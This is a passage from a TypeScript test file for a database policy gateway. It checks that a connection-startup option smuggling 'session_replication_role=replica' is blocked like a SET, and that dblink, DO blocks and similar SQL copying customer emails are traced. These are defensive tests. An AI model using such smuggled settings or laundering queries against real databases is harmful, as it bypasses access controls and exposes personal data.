    assert.match(judgeStartupParameters({'_pq_.x': '1'}).refuse ?? '', /protocol option/)
  })

  it('a policy blocks a startup setting as it blocks the SET', () => {
    const policy = parsePolicy('version: 1\nrules:\n  - {id: all, effect: allow}\n  - {id: no-srr, effect: block, match: {settings: [session_replication_role]}}\n', 'p.yaml')
    const alice: Identity = {kind: 'user', subject: 'a', name: 'alice', email: 'alice@example.com', groups: []}
    const j = judgeStartupParameters({options: '-c session_replication_role=replica'})
    assert.equal(judgeOperation(policy, alice, {name: 'db', type: 'postgres'}, analyzePostgres(j.sql)).ruleId, 'no-srr')
  })
})

describe('sql: laundering facts do not flag what holds no column', () => {
  it('functions in FROM yield what their arguments hold; SQL text they run is followed', () => {
    const stores = (sql: string) => analyzePostgres(sql).statements.flatMap((s) => s.stores ?? []).flatMap((st) => st.flows.map((f) => `${f.from.table ?? '?'}.${f.from.column}`))
    assert.deepEqual(stores('CREATE TABLE x AS SELECT * FROM generate_series(1, 3) g'), [])
    assert.deepEqual(stores('CREATE TABLE x AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r'), [])
    assert.deepEqual(stores("CREATE TABLE x AS SELECT * FROM dblink('dbname=test', 'select email from customers') AS t(e text)"), ['customers.email'])
    assert.deepEqual(stores("CREATE TABLE x AS SELECT * FROM dblink('dbname=test', current_setting('q')) AS t(e text)"), ['?.*'])
    assert.deepEqual(stores('DO $$ BEGIN INSERT INTO log SELECT email FROM customers; END $$'), ['customers.email'])
  })
})
